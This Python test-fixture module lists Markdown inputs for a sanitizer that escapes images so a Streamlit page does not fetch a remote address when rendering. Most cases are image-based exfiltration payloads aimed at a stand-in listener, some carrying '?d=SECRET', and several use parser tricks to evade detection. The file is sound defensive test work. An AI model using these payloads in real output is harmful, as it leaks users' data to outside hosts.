"""Markdown that makes a browser fetch an address as it renders, and what app_pages.safe_text makes of it.

`URL` stands for the address: the unit tests keep it, the browser test puts its listener there.
Each case is (id, text, what markdown() returns); each id is also the path the listener would see.
"""

from __future__ import annotations

URL = "http://listener.invalid"

# Each of these makes today's page (Streamlit 1.67 in Chromium) fetch URL when shown as written.
HOSTILE = [
    ("inline", "![x](URL/inline?d=SECRET)", "\\![x](URL/inline?d=SECRET)"),
    ("titled", '![x](URL/titled "t")', '\\![x](URL/titled "t")'),
    ("angle", "![x](<URL/angle>)", "\\![x](<URL/angle>)"),
    ("reference", "See ![x][r]\n\n[r]: URL/reference", "See \\![x][r]\n\n[r]: URL/reference"),
    ("shortcut", "![r]\n\n[r]: URL/shortcut", "\\![r]\n\n[r]: URL/shortcut"),
    ("in-link", "[![x](URL/in-link)](https://example.com)", "[\\![x](URL/in-link)](https://example.com)"),
    ("in-strong", "**![x](URL/in-strong)**", "**\\![x](URL/in-strong)**"),
    ("in-heading", "# ![x](URL/in-heading)", "# \\![x](URL/in-heading)"),
    ("in-quote", "> ![x](URL/in-quote)", "> \\![x](URL/in-quote)"),
    ("in-cell", "| a |\n| - |\n| ![x](URL/in-cell) |", "| a |\n| - |\n| \\![x](URL/in-cell) |"),
    ("escaped-backslash", "\\\\![x](URL/escaped-backslash)", "\\\\\\![x](URL/escaped-backslash)"),
    ("four-backslashes", "\\\\\\\\![x](URL/four-backslashes)", "\\\\\\\\\\![x](URL/four-backslashes)"),
    ("after-span", "`code` ![x](URL/after-span)", "`code` \\![x](URL/after-span)"),
    ("after-fence", "```\n![x](y)\n```\n![x](URL/after-fence)", "```\n![x](y)\n```\n\\![x](URL/after-fence)"),
    # A backtick on an earlier line of the paragraph pairs with one on this line.
    ("span-over-lines", "`a\nb` ![x](URL/span-over-lines) `c`", "`a\nb` \\![x](URL/span-over-lines) `c`"),
    # GFM splits table cells on pipes before it looks for code spans.
    ("span-cut-by-cell", "| a | b |\n| - | - |\n| `x | ![x](URL/span-cut-by-cell)` |",
     "| a | b |\n| - | - |\n| `x | \\![x](URL/span-cut-by-cell)` |"),
    # The fence belongs to the first item and ends with it; the second item's image is not code.
    ("fence-in-item", "- item\n  ```\n- ![x](URL/fence-in-item)\n  ```",
     "- item\n  ```\n- \\![x](URL/fence-in-item)\n  ```"),
    ("fence-in-item-cr", "- item\r  ```\r- ![x](URL/fence-in-item-cr)\r  ```",
     "- item\r  ```\r- \\![x](URL/fence-in-item-cr)\r  ```"),
    # Streamlit strips the text first: this first line becomes a list item, as above.
    ("stripped-into-item", "    - item\n  ```\n- ![x](URL/stripped-into-item)\n  ```",
     "- item\n  ```\n- \\![x](URL/stripped-into-item)\n  ```"),
    ("fence-in-html-block", "<!--\n```\n-->\n![x](URL/fence-in-html-block)\n```",
     "<!--\n```\n-->\n\\![x](URL/fence-in-html-block)\n```"),
    ("fence-in-directive", ":::note\n```\n:::\n![x](URL/fence-in-directive)\n```",
     ":::note\n```\n:::\n\\![x](URL/fence-in-directive)\n```"),
    # Constructs that swallow a backtick before a code span could begin.
    ("html-tag", '<span title="`">![x](URL/html-tag)`', '<span title="`">\\![x](URL/html-tag)`'),
    ("destination", "[a](<`>) ![x](URL/destination) `", "[a](<`>) \\![x](URL/destination) `"),
    ("link-text-span", "[`a](b)` ![x](URL/link-text-span)", "[`a](b)` \\![x](URL/link-text-span)"),
    ("autolink", "http://example.com/`a ![x](URL/autolink) `",
     "http://example.com/`a \\![x](URL/autolink) `"),
    ("directive", ':abbr{title="`"} ![x](URL/directive) `', ':abbr{title="`"} \\![x](URL/directive) `'),
]

# Not images in today's Chromium (a fence, a code span or math holds them, or the image is unfinished), but
# a parser could read them either way, so they are escaped too.
CAUTIOUS = [
    ("fence-in-math-block", "$$\n```\n$$\n![x](URL/fence-in-math-block)\n```",
     "$$\n```\n$$\n\\![x](URL/fence-in-math-block)\n```"),
    ("fence-indented-4", "text\n    ```\n![x](URL/fence-indented-4)\n    ```",
     "text\n    ```\n\\![x](URL/fence-indented-4)\n    ```"),
    ("fence-indented-tab", "text\n\t```\n![x](URL/fence-indented-tab)\n\t```",
     "text\n\t```\n\\![x](URL/fence-indented-tab)\n\t```"),
    ("fence-in-definition", "[r]: /u '\n```\n'\n![x](URL/fence-in-definition)\n```",
     "[r]: /u '\n```\n'\n\\![x](URL/fence-in-definition)\n```"),
    ("math", "$`$ ![x](URL/math) `", "$`$ \\![x](URL/math) `"),
    ("escaped-tick", "\\``a ![x](URL/escaped-tick) `", "\\``a \\![x](URL/escaped-tick) `"),
    ("partial", "Look: ![x](URL/partial?d=SEC", "Look: \\![x](URL/partial?d=SEC"),
    # Raw HTML is shown as text by Streamlit; it stays as it is.
    ("html-img", "<img src=URL/html-img>", "<img src=URL/html-img>"),
]

# Shown exactly as before: what is surely code keeps its `![`, escaped text stays escaped.
BENIGN = [
    "A **bold** claim, `code`, and [a link](https://example.com).",
    "```markdown\n![alt](picture.png)\n```",
    "~~~\n![alt](picture.png)\n~~~",
    "````\n```\n![alt](picture.png)\n```\n````",
    "```python\nprint('![x](y)')",  # an unclosed fence at top level runs to the end
    "Use `![alt](picture.png)` for an image.",
    "``a ` ![alt](picture.png)``",
    "\\![not an image](picture.png)",
    "1. First\n2. Second\n\nThen:\n\n```\n![alt](picture.png)\n```",
    "| a | b |\n| - | - |\n| 1 | 2 |\n\nAfter the table:\n```\n![alt](picture.png)\n```",
    "<b>markup</b> is shown as text",
    "Math: $x^2$ and $$y$$",
]

# Where the Markdown cannot be read for sure, code gets a backslash it does not need: cosmetic, and safe.
COSMETIC = [
    ("- item\n\n  ```\n  ![alt](picture.png)\n  ```", "- item\n\n  ```\n  \\![alt](picture.png)\n  ```"),
    ("See [docs](https://example.com): `![alt](a.png)`",
     "See [docs](https://example.com): `\\![alt](a.png)`"),
    ("| `![alt](a.png)` |", "| `\\![alt](a.png)` |"),
]


def with_url(text: str, url: str) -> str:
    return text.replace("URL", url)
